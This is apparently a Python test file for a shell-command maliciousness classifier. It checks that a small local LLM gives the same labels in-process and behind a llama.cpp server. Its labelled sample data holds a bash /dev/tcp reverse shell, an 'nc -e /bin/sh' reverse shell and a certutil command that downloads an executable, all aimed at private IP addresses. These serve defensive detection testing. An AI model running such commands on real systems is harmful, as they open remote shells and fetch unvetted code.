"""The real LLM teacher: llama.cpp in-process and behind its OpenAI-compatible server give the same labels.

These tests need the optional extra ``llm`` (llama-cpp-python, with ``[server]`` for the server test) and
the Qwen2.5-Coder-0.5B chunk packages; they skip with a message saying what is missing.
"""

from __future__ import annotations

import importlib.util
import os
import socket
import subprocess
import sys
import time

import numpy as np
import pytest

from distilsec.errors import ConfigError

pytestmark = pytest.mark.llm

TEXTS = [
    "git status",
    "certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe",
    "ls -la /home/user",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
]
LABELS = ["benign", "malicious", "benign", "malicious"]
QUERIES = ["du -sh /var/log", "nc -e /bin/sh 10.0.0.2 9001", "docker ps -a"]


@pytest.fixture(scope="module")
def gguf() -> str:
    if importlib.util.find_spec("llama_cpp") is None:
        pytest.skip("the optional extra 'llm' (llama-cpp-python) is not installed")
    from distilsec.teachers.llm.gguf_assemble import resolve_gguf

    try:
        path, _ = resolve_gguf("qwen2.5-coder-0.5b")
    except ConfigError as exc:
        pytest.skip(f"Qwen2.5-Coder-0.5B chunk packages are not installed: {exc}")
    return str(path)


@pytest.fixture(scope="module")
def local(gguf):
    """One in-process teacher for the module (loading the model is the slow part)."""
    teacher = _fit(model=gguf)
    yield teacher
    teacher.close()


def _fit(**kw):
    from distilsec.teachers.llm.teacher import LLMTeacher

    params = {"ledger": None, "calibration": "none", "n_shots": 2, "progress": False, **kw}
    return LLMTeacher(**params).fit(TEXTS, LABELS)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _wait_ready(url: str, proc: subprocess.Popen, timeout: float = 180.0) -> None:
    import httpx

    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"llama.cpp server exited with code {proc.returncode}")
        try:
            if httpx.get(f"{url}/models", timeout=2.0).status_code == 200:
                return
        except httpx.TransportError:
            pass
        time.sleep(0.5)
    raise RuntimeError("llama.cpp server did not become ready in time")


def test_in_process_labels(local):
    proba = local.predict_proba(QUERIES)
    assert proba.shape == (3, 2) and np.allclose(proba.sum(axis=1), 1.0)
    assert local.shots_ and local.last_run_.calls == 3
    assert local.predict(["nc -e /bin/sh 10.0.0.2 9001"])[0] == "malicious"
    backend = local.backend_
    assert backend.model_id == f"gguf:{backend.sha256}" and len(backend.sha256) == 64


def test_server_endpoint_gives_the_same_labels_as_in_process(gguf, local):
    if importlib.util.find_spec("uvicorn") is None or importlib.util.find_spec("sse_starlette") is None:
        pytest.skip("llama-cpp-python[server] is not installed")
    port = _free_port()
    url = f"http://127.0.0.1:{port}/v1"
    cmd = [sys.executable, "-m", "llama_cpp.server", "--model", gguf, "--model_alias", "qwen-0.5b"]
    cmd += ["--n_threads", "2", "--n_ctx", "1024", "--logits_all", "true", "--host", "127.0.0.1"]
    cmd += ["--port", str(port)]
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env={**os.environ})
    try:
        _wait_ready(url, proc)
        remote = _fit(model="qwen-0.5b", endpoint=url)
        p_remote = remote.predict_proba(QUERIES)
        assert remote.last_run_.calls == 3
    finally:
        proc.terminate()  # stop the server by its PID
        try:
            proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(timeout=10)
    assert proc.poll() is not None
    assert local.shots_ == remote.shots_
    p_local = local.predict_proba(QUERIES)
    assert list(p_remote.argmax(axis=1)) == list(p_local.argmax(axis=1))
    # top-20 candidates (server) vs the whole vocabulary (in-process): close, not bit-identical
    assert np.abs(p_remote - p_local).max() < 0.1
